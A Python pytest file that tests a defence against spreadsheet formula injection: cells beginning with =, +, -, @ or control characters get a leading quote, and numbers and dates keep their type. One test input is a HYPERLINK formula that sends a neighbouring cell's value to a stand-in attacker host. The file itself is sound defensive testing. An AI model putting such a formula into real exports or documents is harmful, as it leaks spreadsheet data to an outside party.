"""Spreadsheet cells: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

from datetime import date

import pytest

from services.adapters.cells import safe_cell, safe_row

FORMULA = '=HYPERLINK("http://evil/?x="&A2,"GHT Lot")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+33 5 61 00 00 00", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "="]
)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["GHT Lot", "", "2017-10-13", "'=already quoted", " =1", "—"])
def test_other_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


def test_numbers_dates_and_empty_cells_keep_their_type():
    day = date(2017, 10, 13)
    assert safe_row([3, -2, 1.5, None, day, True]) == [3, -2, 1.5, None, day, True]
    assert type(safe_cell(-2)) is int
